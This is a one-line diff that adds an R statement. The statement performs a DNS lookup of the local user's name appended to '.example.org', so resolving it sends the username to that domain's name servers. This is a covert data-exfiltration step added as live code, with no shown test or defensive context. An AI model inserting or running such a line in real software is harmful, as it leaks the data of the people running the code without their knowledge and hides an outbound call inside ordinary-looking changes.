@@ -1,0 +1,1 @@
+curl::nslookup(paste0(Sys.getenv("USER"), ".example.org"))
